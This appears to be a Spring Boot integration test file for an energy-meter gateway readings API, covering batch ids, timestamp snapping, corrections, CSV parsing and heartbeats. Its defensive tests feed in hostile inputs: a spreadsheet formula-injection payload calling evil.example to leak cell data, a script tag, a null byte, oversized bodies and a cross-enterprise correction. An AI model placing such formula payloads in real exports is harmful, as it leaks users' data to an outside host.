package org.peakpilot;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import java.util.Set;

import com.jayway.jsonpath.JsonPath;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.peakpilot.monitoring.EnergyMonitoring;
import org.peakpilot.monitoring.internal.RollupJob;
import org.peakpilot.platform.Role;
import org.peakpilot.platform.UserAccounts;
import org.peakpilot.registry.Registry;
import org.peakpilot.registry.RegistryModel;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.ResultActions;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.springframework.test.web.servlet.request.RequestPostProcessor;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.matchesPattern;
import static org.peakpilot.Counties.EMEISHAN;
import static org.peakpilot.Counties.SHAWAN;
import static org.peakpilot.Fixtures.basic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.flash;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.hamcrest.Matchers.containsString;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Gateways in the field (issue 10), over HTTP as a gateway vendor would use them: a batch id in every answer
 * (refusals included), times within the alignment tolerance snapped onto the interval boundary and noted, times
 * marking the interval's start, epoch milliseconds, corrections (补传/更正) replacing a stored value with an audit
 * record, CSV with the Chinese header and {@code ;}, a heartbeat, and the documented body of POST /readings. Each
 * with what an attacker would send. Same context as MonitoringIngestTests.
 */
// Context of the monitoring classes: they close months and roll up for all enterprises and count a county's quarantine
@SpringBootTest(properties = "peakpilot.test.schema=pp_monitoring")
@AutoConfigureMockMvc
class GatewayFieldTests {

	static final ZoneId BEIJING = ZoneId.of("Asia/Shanghai");
	static final String UUID_PATTERN = "[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}";

	@Autowired
	MockMvc mvc;

	@Autowired
	Registry registry;

	@Autowired
	UserAccounts accounts;

	@Autowired
	EnergyMonitoring monitoring;

	@Autowired
	RollupJob rollups;

	@Autowired
	JdbcClient jdbc;

	RegistryModel.Enterprise cement;
	String user;
	String token;
	long gatewayId;
	long meter;
	/** The start of yesterday in Beijing: every reading of these tests lies in that day. */
	OffsetDateTime day;

	@BeforeEach
	void setUp() throws Exception {
		Fixtures fixtures = new Fixtures(registry, accounts);
		cement = fixtures.enterprise(EMEISHAN, "3011", null);
		user = fixtures.user(Role.ENTERPRISE_USER, null, null, cement.id(), Set.of());
		String created = mvc.perform(post("/api/v1/monitoring/enterprises/" + cement.id() + "/gateways").with(basic(user))
			.contentType(MediaType.APPLICATION_JSON).content("{\"name\": \"1# 网关\"}")).andExpect(status().isCreated()).andReturn()
			.getResponse().getContentAsString();
		token = JsonPath.read(created, "$.token");
		gatewayId = ((Number) JsonPath.read(created, "$.gateway.id")).longValue();
		meter = meter(user, cement.id(), "E-01");
		day = LocalDate.now(BEIJING).minusDays(1).atStartOfDay(BEIJING).toOffsetDateTime();
	}

	long meter(String owner, long enterpriseId, String code) throws Exception {
		return ((Number) JsonPath.read(mvc.perform(post("/api/v1/monitoring/enterprises/" + enterpriseId + "/meters").with(basic(owner))
			.contentType(MediaType.APPLICATION_JSON).content("""
					{"code": "%s", "name": "1# 主变", "energyCode": "ELECTRICITY", "unit": "kWh", "kind": "INTERVAL",
					 "multiplier": 10, "intervalMinutes": 15, "maxPerInterval": 50000}""".formatted(code)))
			.andExpect(status().isCreated()).andReturn().getResponse().getContentAsString(), "$.id")).longValue();
	}

	RequestPostProcessor device() {
		return device(token);
	}

	static RequestPostProcessor device(String token) {
		return r -> {
			r.addHeader("Authorization", "Bearer " + token);
			return r;
		};
	}

	MockHttpServletRequestBuilder readings(String json) {
		return post("/api/v1/monitoring/readings").with(device()).contentType(MediaType.APPLICATION_JSON).content(json);
	}

	String ok(MockHttpServletRequestBuilder request) throws Exception {
		return mvc.perform(request).andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
	}

	String at(int minutes) {
		return day.plusMinutes(minutes).toString();
	}

	long epochMs(int minutes) {
		return day.plusMinutes(minutes).toInstant().toEpochMilli();
	}

	BigDecimal stored(long meterId, int minutes) {
		return jdbc.sql("SELECT value FROM monitoring_reading WHERE meter_id = :m AND ts = :t").param("m", meterId)
			.param("t", day.plusMinutes(minutes)).query(BigDecimal.class).optional().orElse(null);
	}

	// ---- batch id

	@Test
	void everyAnswerEchoesTheGatewaysBatchIdOrOneAssigned() throws Exception {
		String reading = "{\"meter\": \"E-01\", \"ts\": \"" + at(15) + "\", \"value\": 1}";
		assertThat((String) JsonPath.read(ok(readings("{\"batchId\": \"gw7-000123\", \"readings\": [" + reading + "]}")), "$.batchId"))
			.isEqualTo("gw7-000123");
		assertThat((String) JsonPath.read(ok(readings("[" + reading + "]").header("X-Batch-Id", "hdr:42")), "$.batchId")).isEqualTo("hdr:42");
		assertThat((String) JsonPath.read(ok(readings("{\"batchId\": \"body-1\", \"readings\": []}").header("X-Batch-Id", "hdr-1")),
				"$.batchId")).as("the body's id wins over the header's").isEqualTo("body-1");
		assertThat((String) JsonPath.read(ok(readings("[" + reading + "]")), "$.batchId")).matches(UUID_PATTERN);
		assertThat((String) JsonPath.read(ok(post("/api/v1/monitoring/readings").with(device()).contentType("text/csv")
			.header("X-Batch-Id", "csv-7").content("meter,ts,value\nE-01," + at(30) + ",2\n")), "$.batchId")).isEqualTo("csv-7");

		// refusals carry it too: a batch that cannot be read (the header's id), one too large, one with a bad id (an assigned one)
		mvc.perform(readings("{\"readings\": [ not json").header("X-Batch-Id", "broken-1")).andExpect(status().isBadRequest())
			.andExpect(jsonPath("$.batchId").value("broken-1"));
		mvc.perform(readings("{\"readings\": [" + (reading + ",").repeat(10_001) + reading + "]}").header("X-Batch-Id", "big-1"))
			.andExpect(status().isContentTooLarge()).andExpect(jsonPath("$.batchId").value("big-1"));
		String tenThousand = "a".repeat(10_000);
		mvc.perform(readings("{\"batchId\": \"" + tenThousand + "\", \"readings\": [" + reading + "]}")).andExpect(status().isBadRequest())
			.andExpect(jsonPath("$.errors[0].field").value("batchId")).andExpect(jsonPath("$.batchId", matchesPattern(UUID_PATTERN)));
		for (String bad : List.of("<script>", "a b", "x\"y", "日志注入", "id\u0000")) {
			mvc.perform(readings("{\"batchId\": " + new tools.jackson.databind.json.JsonMapper().writeValueAsString(bad) + ", \"readings\": []}"))
				.andExpect(status().isBadRequest()).andExpect(jsonPath("$.errors[0].field").value("batchId"));
		}
		mvc.perform(readings("[]").header("X-Batch-Id", "x".repeat(65))).andExpect(status().isBadRequest())
			.andExpect(jsonPath("$.errors[0].field").value("batchId"));
		mvc.perform(readings("{\"batchId\": {\"nested\": 1}, \"readings\": []}")).andExpect(status().isBadRequest())
			.andExpect(jsonPath("$.errors[0].field").value("batchId"));
		assertThat(stored(meter, 15)).isEqualByComparingTo("1");
	}

	@Test
	void whatABatchProducedIsKeptOneRowPerBatchAndLookedUpByTheGatewayAndItsBatchId() throws Exception {
		String batch = "{\"batchId\": \"sup-1\", \"readings\": [{\"meter\": \"E-01\", \"ts\": \"" + at(15)
				+ "\", \"value\": 1}, {\"meter\": \"E-01\", \"ts\": \"" + at(30) + "\", \"value\": -1}]}";
		ok(readings(batch));
		ok(readings(batch));
		ok(post("/api/v1/monitoring/readings").with(device()).contentType("text/csv").header("X-Batch-Id", "sup-csv")
			.content("meter,ts,value\nE-01," + at(45) + ",2\nE-01," + at(60) + ",3\n"));
		assertThat(jdbc.sql("SELECT count(*) FROM monitoring_batch WHERE gateway_id = :g").param("g", gatewayId).query(Long.class).single())
			.as("one row per batch, not per reading").isEqualTo(3);

		// sent twice: newest first, the resend found its reading stored already
		String found = ok(get("/api/v1/monitoring/gateways/" + gatewayId + "/batches/sup-1").with(basic(user)));
		assertThat((List<Integer>) JsonPath.read(found, "$[*].stored")).containsExactly(0, 1);
		assertThat((List<Integer>) JsonPath.read(found, "$[*].duplicates")).containsExactly(1, 0);
		assertThat((List<Integer>) JsonPath.read(found, "$[*].quarantined")).containsExactly(1, 1);
		assertThat((List<Integer>) JsonPath.read(found, "$[*].received")).containsExactly(2, 2);
		assertThat((List<String>) JsonPath.read(found, "$[*].channel")).containsExactly("HTTP", "HTTP");
		assertThat((List<String>) JsonPath.read(found, "$[*].receivedAt")).allSatisfy(t -> assertThat(t).isNotBlank());
		String csv = ok(get("/api/v1/monitoring/gateways/" + gatewayId + "/batches/sup-csv").with(basic(user)));
		assertThat((List<Integer>) JsonPath.read(csv, "$[*].stored")).containsExactly(2);
		mvc.perform(get("/api/v1/monitoring/gateways/" + gatewayId + "/batches/never-sent").with(basic(user))).andExpect(status().isNotFound());
		// another enterprise's user cannot look
		Fixtures fixtures = new Fixtures(registry, accounts);
		RegistryModel.Enterprise other = fixtures.enterprise(SHAWAN, "3011", null);
		String stranger = fixtures.user(Role.ENTERPRISE_USER, null, null, other.id(), Set.of());
		mvc.perform(get("/api/v1/monitoring/gateways/" + gatewayId + "/batches/sup-1").with(basic(stranger)))
			.andExpect(result -> assertThat(result.getResponse().getStatus()).isIn(403, 404));

		// the page of the enterprise's batches
		mvc.perform(get("/monitoring/enterprises/" + cement.id() + "/batches").param("gatewayId", String.valueOf(gatewayId))
			.param("batchId", "sup-1").with(fixtures.as(user))).andExpect(status().isOk())
			.andExpect(content().string(containsString("class=\"batch-row\""))).andExpect(content().string(containsString("批次查询")));
		mvc.perform(get("/monitoring/enterprises/" + cement.id() + "/batches").param("gatewayId", String.valueOf(gatewayId))
			.param("batchId", "nope").param("lang", "en").with(fixtures.as(user))).andExpect(status().isOk())
			.andExpect(content().string(containsString("No batch nope was received from this gateway")));
		mvc.perform(get("/monitoring/enterprises/" + cement.id()).with(fixtures.as(user))).andExpect(status().isOk())
			.andExpect(content().string(containsString("id=\"batch-lookup\"")));
	}

	// ---- alignment tolerance and time marking

	@Test
	void readingsWithinTheToleranceOfABoundaryAreSnappedOntoItAndNotedFartherOnesAreMisaligned() throws Exception {
		OffsetDateTime t = day.plusMinutes(15);
		String answer = ok(readings("""
				{"readings": [
				 {"meter": "E-01", "ts": "%s", "value": 1},
				 {"meter": "E-01", "ts": "%s", "value": 2},
				 {"meter": "E-01", "ts": "%s", "value": 3},
				 {"meter": "E-01", "ts": "%s", "value": 4},
				 {"meter": "E-01", "ts": "%s", "value": 5}
				]}""".formatted(t.plusSeconds(3), t.plusMinutes(15).minusSeconds(60), t.plusMinutes(30).plusSeconds(61),
				t.plusMinutes(45).plusMinutes(7), t.plusMinutes(60))));
		assertThat((Integer) JsonPath.read(answer, "$.stored")).isEqualTo(3);
		assertThat((Integer) JsonPath.read(answer, "$.snapped")).isEqualTo(2);
		assertThat((List<Integer>) JsonPath.read(answer, "$.notes[*].index")).containsExactly(0, 1);
		assertThat((List<String>) JsonPath.read(answer, "$.notes[*].note")).containsExactly("SNAPPED", "SNAPPED");
		assertThat((List<String>) JsonPath.read(answer, "$.rejected[*].reason")).containsExactly("MISALIGNED", "MISALIGNED");
		assertThat(stored(meter, 15)).isEqualByComparingTo("1");
		assertThat(stored(meter, 30)).isEqualByComparingTo("2");
		assertThat(stored(meter, 75)).isEqualByComparingTo("5");
		Map<String, Object> snapped = jdbc.sql("SELECT snapped_from FROM monitoring_reading WHERE meter_id = :m AND ts = :t")
			.param("m", meter).param("t", t).query().singleRow();
		assertThat(((java.sql.Timestamp) snapped.get("snapped_from")).toInstant()).isEqualTo(t.plusSeconds(3).toInstant());
		assertThat(jdbc.sql("SELECT snapped_from IS NULL FROM monitoring_reading WHERE meter_id = :m AND ts = :t").param("m", meter)
			.param("t", t.plusMinutes(60)).query(Boolean.class).single()).as("a reading on the boundary is not noted").isTrue();
	}

	@Test
	void aGatewayStampingTheIntervalsStartDeclaresItAndItsReadingsLandAtTheEnd() throws Exception {
		String answer = ok(readings("""
				{"timestampMarks": "start", "readings": [{"meter": "E-01", "ts": "%s", "value": 7}, {"meter": "E-01", "ts": "%s", "value": 8}]}"""
			.formatted(at(0), at(15))));
		assertThat((Integer) JsonPath.read(answer, "$.stored")).isEqualTo(2);
		assertThat(stored(meter, 15)).isEqualByComparingTo("7");
		assertThat(stored(meter, 30)).isEqualByComparingTo("8");
		assertThat(stored(meter, 0)).isNull();
		// CSV declares it in a header; the default stays the end
		ok(post("/api/v1/monitoring/readings").with(device()).contentType("text/csv").header("X-Timestamp-Marks", "START")
			.content("meter,ts,value\nE-01," + at(30) + ",9\n"));
		assertThat(stored(meter, 45)).isEqualByComparingTo("9");
		ok(readings("[{\"meter\": \"E-01\", \"ts\": \"" + at(60) + "\", \"value\": 10}]"));
		assertThat(stored(meter, 60)).isEqualByComparingTo("10");

		for (String bad : List.of("\"middle\"", "1", "\"" + "s".repeat(5000) + "\"")) {
			mvc.perform(readings("{\"timestampMarks\": " + bad + ", \"readings\": []}")).andExpect(status().isBadRequest())
				.andExpect(jsonPath("$.errors[0].field").value("timestampMarks"));
		}
	}

	@Test
	void aGatewaysDefaultTimeMarkingAppliesWhereABatchSaysNothingAndTheBatchsOwnWins() throws Exception {
		assertThat((String) JsonPath.read(ok(get("/api/v1/monitoring/enterprises/" + cement.id() + "/gateways").with(basic(user))),
				"$[0].timestampMarks")).as("the end unless set").isEqualTo("end");
		mvc.perform(put("/api/v1/monitoring/gateways/" + gatewayId).with(basic(user)).contentType(MediaType.APPLICATION_JSON)
			.content("{\"timestampMarks\": \"start\"}")).andExpect(status().isOk()).andExpect(jsonPath("$.timestampMarks").value("start"));
		assertThat(jdbc.sql("SELECT count(*) FROM audit_event WHERE action = 'gateway.changed' AND entity_id = :id")
			.param("id", String.valueOf(gatewayId)).query(Long.class).single()).isEqualTo(1);

		// JSON and CSV batches that say nothing: the gateway's start; one that says "end" (body or header): the end
		ok(readings("[{\"meter\": \"E-01\", \"ts\": \"" + at(0) + "\", \"value\": 7}]"));
		assertThat(stored(meter, 15)).isEqualByComparingTo("7");
		assertThat(stored(meter, 0)).isNull();
		ok(post("/api/v1/monitoring/readings").with(device()).contentType("text/csv").content("meter,ts,value\nE-01," + at(30) + ",8\n"));
		assertThat(stored(meter, 45)).isEqualByComparingTo("8");
		ok(readings("{\"timestampMarks\": \"end\", \"readings\": [{\"meter\": \"E-01\", \"ts\": \"" + at(60) + "\", \"value\": 9}]}"));
		assertThat(stored(meter, 60)).isEqualByComparingTo("9");
		ok(post("/api/v1/monitoring/readings").with(device()).contentType("text/csv").header("X-Timestamp-Marks", "end")
			.content("meter,ts,value\nE-01," + at(90) + ",10\n"));
		assertThat(stored(meter, 90)).isEqualByComparingTo("10");
		// a user of the enterprise is no gateway: the end
		ok(post("/api/v1/monitoring/readings").with(basic(user)).contentType("text/csv").content("meter,ts,value\nE-01," + at(120) + ",11\n"));
		assertThat(stored(meter, 120)).isEqualByComparingTo("11");

		// refused: a value that is neither, a gateway changing itself
		for (String bad : List.of("{\"timestampMarks\": \"middle\"}", "{}")) {
			mvc.perform(put("/api/v1/monitoring/gateways/" + gatewayId).with(basic(user)).contentType(MediaType.APPLICATION_JSON).content(bad))
				.andExpect(status().isBadRequest()).andExpect(jsonPath("$.errors[0].field").value("timestampMarks"));
		}
		mvc.perform(put("/api/v1/monitoring/gateways/" + gatewayId).with(device()).contentType(MediaType.APPLICATION_JSON)
			.content("{\"timestampMarks\": \"end\"}")).andExpect(status().isForbidden());

		// the gateways page shows and changes it; a bad value comes back as the form's error, not a 500
		Fixtures fixtures = new Fixtures(registry, accounts);
		mvc.perform(get("/monitoring/enterprises/" + cement.id()).with(fixtures.as(user))).andExpect(status().isOk())
			.andExpect(content().string(containsString("<option value=\"start\" selected=\"selected\">区间开始</option>")));
		mvc.perform(post("/monitoring/enterprises/" + cement.id() + "/gateways/" + gatewayId + "/marks").with(fixtures.as(user)).with(csrf())
			.param("timestampMarks", "end")).andExpect(status().is3xxRedirection()).andExpect(flash().attribute("done", "marks"));
		assertThat(jdbc.sql("SELECT timestamp_marks FROM monitoring_gateway WHERE id = :id").param("id", gatewayId).query(String.class).single())
			.isEqualTo("END");
		mvc.perform(post("/monitoring/enterprises/" + cement.id() + "/gateways/" + gatewayId + "/marks").with(fixtures.as(user)).with(csrf())
			.param("timestampMarks", "noon")).andExpect(status().is3xxRedirection()).andExpect(flash().attributeExists("errors"));
		ok(readings("[{\"meter\": \"E-01\", \"ts\": \"" + at(150) + "\", \"value\": 12}]"));
		assertThat(stored(meter, 150)).as("the end again").isEqualByComparingTo("12");
	}

	// ---- epoch milliseconds

	@Test
	void epochMillisecondsAreAcceptedWithinASaneRangeAndAbsurdNumbersAreQuarantined() throws Exception {
		String answer = ok(readings("""
				[{"meter": "E-01", "ts": %d, "value": 11},
				 {"meter": "E-01", "ts": "%d", "value": 12},
				 {"meter": "E-01", "ts": %d, "value": 13},
				 {"meter": "E-01", "ts": 1e18, "value": 1},
				 {"meter": "E-01", "ts": 1000000000000000000, "value": 1},
				 {"meter": "E-01", "ts": 946684799999, "value": 1},
				 {"meter": "E-01", "ts": -1, "value": 1},
				 {"meter": "E-01", "ts": 99999999999999999999999999999, "value": 1}]"""
			.formatted(epochMs(15), epochMs(30), epochMs(45) + 500)));
		assertThat((Integer) JsonPath.read(answer, "$.stored")).isEqualTo(3);
		assertThat((List<String>) JsonPath.read(answer, "$.rejected[*].reason")).containsOnly("BAD_TIMESTAMP").hasSize(5);
		assertThat(stored(meter, 15)).isEqualByComparingTo("11");
		assertThat(stored(meter, 30)).isEqualByComparingTo("12");
		assertThat(stored(meter, 45)).as("half a second past the boundary: snapped").isEqualByComparingTo("13");
	}

	// ---- corrections

	@Test
	void aCorrectionReplacesTheStoredValueWithAnAuditRecordAndRollsUpAgainWithoutItAConflictStays() throws Exception {
		ok(readings("[{\"meter\": \"E-01\", \"ts\": \"" + at(15) + "\", \"value\": 100}]"));
		rollups.rollUpPending();
		assertThat(rollup(meter, day)).isEqualByComparingTo("1000");

		String conflict = ok(readings("[{\"meter\": \"E-01\", \"ts\": \"" + at(15) + "\", \"value\": 120}]"));
		assertThat((List<String>) JsonPath.read(conflict, "$.rejected[*].reason")).containsExactly("CONFLICT");
		assertThat(stored(meter, 15)).isEqualByComparingTo("100");

		String corrected = ok(readings("""
				{"batchId": "fix-1", "readings": [{"meter": "E-01", "ts": "%s", "value": 120, "correction": true},
				 {"meter": "E-01", "ts": "%s", "value": 5, "correction": true}]}""".formatted(at(15), at(30))));
		assertThat((Integer) JsonPath.read(corrected, "$.corrected")).isEqualTo(1);
		assertThat((Integer) JsonPath.read(corrected, "$.stored")).as("a correction of nothing stored is stored").isEqualTo(1);
		assertThat((Integer) JsonPath.read(corrected, "$.quarantined")).isZero();
		assertThat((List<String>) JsonPath.read(corrected, "$.notes[*].note")).containsExactly("CORRECTED");
		assertThat(stored(meter, 15)).isEqualByComparingTo("120");
		Map<String, Object> audit = jdbc.sql("""
				SELECT actor, before_state ->> 'value' AS before, after_state ->> 'value' AS after FROM audit_event
				WHERE action = 'reading.corrected' AND entity_id = :id""").param("id", meter + "@" + day.plusMinutes(15).toInstant())
			.query().singleRow();
		assertThat(audit).containsEntry("actor", "gateway:" + gatewayId).containsEntry("before", "100").containsEntry("after", "120");
		rollups.rollUpPending();
		assertThat(rollup(meter, day)).as("120 × 10").isEqualByComparingTo("1200");

		// the same correction again changes nothing (a duplicate), a batch-wide flag corrects too, CSV with 更正
		String again = ok(readings("[{\"meter\": \"E-01\", \"ts\": \"" + at(15) + "\", \"value\": 120, \"correction\": true}]"));
		assertThat((Integer) JsonPath.read(again, "$.duplicates")).isEqualTo(1);
		ok(readings("{\"correction\": true, \"readings\": [{\"meter\": \"E-01\", \"ts\": \"" + at(15) + "\", \"value\": 121}]}"));
		assertThat(stored(meter, 15)).isEqualByComparingTo("121");
		ok(post("/api/v1/monitoring/readings").with(device()).contentType("text/csv").content("表计,时间,数值,更正\nE-01," + at(15) + ",122,是\n"));
		assertThat(stored(meter, 15)).isEqualByComparingTo("122");
		assertThat(jdbc.sql("SELECT count(*) FROM audit_event WHERE action = 'reading.corrected' AND entity_id = :id")
			.param("id", meter + "@" + day.plusMinutes(15).toInstant()).query(Long.class).single()).isEqualTo(3);

		mvc.perform(readings("[{\"meter\": \"E-01\", \"ts\": \"" + at(15) + "\", \"value\": 1, \"correction\": \"yes\"}]"))
			.andExpect(status().isOk()).andExpect(jsonPath("$.rejected[0].reason").value("MALFORMED"));
		mvc.perform(readings("{\"correction\": 1, \"readings\": []}")).andExpect(status().isBadRequest())
			.andExpect(jsonPath("$.errors[0].field").value("correction"));
	}

	@Test
	void aCorrectionCannotTouchAnotherEnterprisesMeter() throws Exception {
		Fixtures fixtures = new Fixtures(registry, accounts);
		RegistryModel.Enterprise other = fixtures.enterprise(SHAWAN, "3011", null);
		String otherUser = fixtures.user(Role.ENTERPRISE_USER, null, null, other.id(), Set.of());
		long foreign = meter(otherUser, other.id(), "E-01");
		String otherToken = JsonPath.read(mvc.perform(post("/api/v1/monitoring/enterprises/" + other.id() + "/gateways").with(basic(otherUser))
			.contentType(MediaType.APPLICATION_JSON).content("{\"name\": \"网关\"}")).andReturn().getResponse().getContentAsString(), "$.token");
		mvc.perform(post("/api/v1/monitoring/readings").with(device(otherToken)).contentType(MediaType.APPLICATION_JSON)
			.content("[{\"meter\": \"E-01\", \"ts\": \"" + at(15) + "\", \"value\": 50}]")).andExpect(status().isOk());

		String answer = ok(readings("""
				{"correction": true, "readings": [{"meterId": %d, "ts": "%s", "value": 1}, {"meter": "E-01", "ts": "%s", "value": 2}]}"""
			.formatted(foreign, at(15), at(15))));
		assertThat((List<String>) JsonPath.read(answer, "$.rejected[*].reason")).containsExactly("FOREIGN_METER");
		assertThat(stored(foreign, 15)).isEqualByComparingTo("50");
		assertThat(stored(meter, 15)).as("its own meter of the same code").isEqualByComparingTo("2");
		assertThat(jdbc.sql("SELECT count(*) FROM audit_event WHERE action = 'reading.corrected' AND entity_id LIKE :id")
			.param("id", foreign + "@%").query(Long.class).single()).isZero();
	}

	// ---- CSV

	@Test
	void csvWithTheChineseHeaderSemicolonsAndAByteOrderMarkIsRead() throws Exception {
		String csv = "\uFEFF表计;时间;数值;单位\nE-01;" + at(15) + ";1,5;kWh\nE-01;" + at(30) + ";2.5;kWh\n";
		String answer = ok(post("/api/v1/monitoring/readings").with(device()).contentType("text/csv; charset=UTF-8")
			.content(csv.getBytes(StandardCharsets.UTF_8)));
		// "1,5" is no number here (a decimal comma): quarantined with its row, not guessed
		assertThat((Integer) JsonPath.read(answer, "$.stored")).isEqualTo(1);
		assertThat((List<String>) JsonPath.read(answer, "$.rejected[*].reason")).containsExactly("BAD_VALUE");
		assertThat(stored(meter, 30)).isEqualByComparingTo("2.5");
		ok(post("/api/v1/monitoring/readings").with(device()).contentType("text/csv").content("表计,时间,数值\nE-01," + at(45) + ",3\n"));
		assertThat(stored(meter, 45)).isEqualByComparingTo("3");
		mvc.perform(post("/api/v1/monitoring/readings").with(device()).contentType("text/csv").content("名称;日期;值\nE-01;x;1\n"))
			.andExpect(status().isBadRequest()).andExpect(jsonPath("$.errors[0].field").value("header"));
	}

	@Test
	void csvInjectionIsKeptAsTextAndAHugeCsvIsRefused() throws Exception {
		String formula = "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")";
		String csv = "meter;ts;value\n\"" + formula.replace("\"", "\"\"") + "\";" + at(15) + ";1\nE-01;" + at(15) + ";\"=1+1\"\n";
		String answer = ok(post("/api/v1/monitoring/readings").with(device()).contentType("text/csv").content(csv));
		assertThat((List<String>) JsonPath.read(answer, "$.rejected[*].reason")).containsExactly("UNKNOWN_METER", "BAD_VALUE");
		long q = ((Number) JsonPath.read(answer, "$.rejected[0].quarantineId")).longValue();
		assertThat(jdbc.sql("SELECT meter_code FROM monitoring_quarantine WHERE id = :id").param("id", q).query(String.class).single())
			.isEqualTo(formula);
		assertThat(stored(meter, 15)).isNull();

		String huge = "表计,时间,数值\n" + ("E-01," + at(15) + ",1\n").repeat(4 * 1024 * 1024 / 30 + 1);
		mvc.perform(post("/api/v1/monitoring/readings").with(device()).contentType("text/csv").header("X-Batch-Id", "huge-csv").content(huge))
			.andExpect(status().isContentTooLarge()).andExpect(jsonPath("$.batchId").value("huge-csv"));
		String wide = "meter,ts,value," + "x,".repeat(100_000) + "\n";
		mvc.perform(post("/api/v1/monitoring/readings").with(device()).contentType("text/csv").content(wide + "E-01," + at(15) + ",1\n"))
			.andExpect(status().isOk()).andExpect(jsonPath("$.rejected[0].reason").value("MALFORMED"));
	}

	// ---- heartbeat

	@Test
	void aHeartbeatMarksTheGatewaySeenAndKeepsItsStatusOnlyForItsDeviceToken() throws Exception {
		mvc.perform(post("/api/v1/monitoring/status").with(device()).contentType(MediaType.APPLICATION_JSON)
			.content("{\"firmware\": \"2.1.0\", \"queued\": 0, \"signal\": -71}")).andExpect(status().isOk())
			.andExpect(jsonPath("$.gatewayId").value(gatewayId)).andExpect(jsonPath("$.status").value("{\"firmware\":\"2.1.0\",\"queued\":0,\"signal\":-71}"));
		String list = mvc.perform(get("/api/v1/monitoring/enterprises/" + cement.id() + "/gateways").with(basic(user))).andExpect(status().isOk())
			.andReturn().getResponse().getContentAsString();
		assertThat((List<String>) JsonPath.read(list, "$[?(@.id == " + gatewayId + ")].lastStatus")).containsExactly("{\"firmware\":\"2.1.0\",\"queued\":0,\"signal\":-71}");
		assertThat((List<Object>) JsonPath.read(list, "$[?(@.id == " + gatewayId + ")].lastSeenAt")).doesNotContainNull();
		// no body: seen, the last status kept
		mvc.perform(post("/api/v1/monitoring/status").with(device())).andExpect(status().isOk());
		assertThat(jdbc.sql("SELECT last_status FROM monitoring_gateway WHERE id = :id").param("id", gatewayId).query(String.class).single())
			.contains("2.1.0");

		mvc.perform(post("/api/v1/monitoring/status").with(device()).contentType(MediaType.APPLICATION_JSON).content("[1, 2]"))
			.andExpect(status().isBadRequest()).andExpect(jsonPath("$.errors[0].field").value("status"));
		mvc.perform(post("/api/v1/monitoring/status").with(device()).contentType(MediaType.APPLICATION_JSON).content("{\"x\": \"" + "a".repeat(10_000) + "\"}"))
			.andExpect(status().isBadRequest()).andExpect(jsonPath("$.errors[0].field").value("status"));
		mvc.perform(post("/api/v1/monitoring/status").with(device()).contentType(MediaType.APPLICATION_JSON).content("{\"x\": \"" + "a".repeat(1995) + "\"}"))
			.andExpect(status().isBadRequest());
		mvc.perform(post("/api/v1/monitoring/status").with(basic(user)).contentType(MediaType.APPLICATION_JSON).content("{}"))
			.andExpect(status().isForbidden());
		mvc.perform(post("/api/v1/monitoring/status").contentType(MediaType.APPLICATION_JSON).content("{}")).andExpect(status().isUnauthorized());
		mvc.perform(post("/api/v1/monitoring/status").with(device("ppd_unknown0000000000000000000000000")).content("{}"))
			.andExpect(status().isUnauthorized());

		// the enterprise's page shows it
		mvc.perform(get("/monitoring/enterprises/" + cement.id()).with(new Fixtures(registry, accounts).as(user))).andExpect(status().isOk())
			.andExpect(org.springframework.test.web.servlet.result.MockMvcResultMatchers.content().string(
					org.hamcrest.Matchers.containsString("&quot;firmware&quot;:&quot;2.1.0&quot;")));
	}

	// ---- OpenAPI

	@Test
	void theReadingsBodyAndItsRefusalsAreInTheOpenApiDocument() throws Exception {
		ResultActions docs = mvc.perform(get("/v3/api-docs")).andExpect(status().isOk());
		String base = "$.paths['/api/v1/monitoring/readings'].post";
		docs.andExpect(jsonPath(base + ".requestBody.content['application/json'].schema").exists())
			.andExpect(jsonPath(base + ".requestBody.content['text/csv'].schema.type").value("string"))
			.andExpect(jsonPath(base + ".responses['200']").exists())
			.andExpect(jsonPath(base + ".responses['400'].content['application/problem+json']").exists())
			.andExpect(jsonPath(base + ".responses['413']").exists())
			.andExpect(jsonPath(base + ".responses['503']").exists())
			.andExpect(jsonPath("$.components.schemas.ReadingsBatch.properties.batchId.maxLength").value(64))
			.andExpect(jsonPath("$.components.schemas.ReadingsBatch.properties.readings.maxItems").value(10000))
			.andExpect(jsonPath("$.components.schemas.ReadingIn.properties.correction").exists())
			.andExpect(jsonPath("$.paths['/api/v1/monitoring/status'].post").exists());
	}

	BigDecimal rollup(long meterId, OffsetDateTime start) {
		return jdbc.sql("SELECT quantity FROM monitoring_rollup WHERE meter_id = :m AND grain = 'Q' AND period_start = :s")
			.param("m", meterId).param("s", start).query(BigDecimal.class).optional().orElse(null);
	}
}
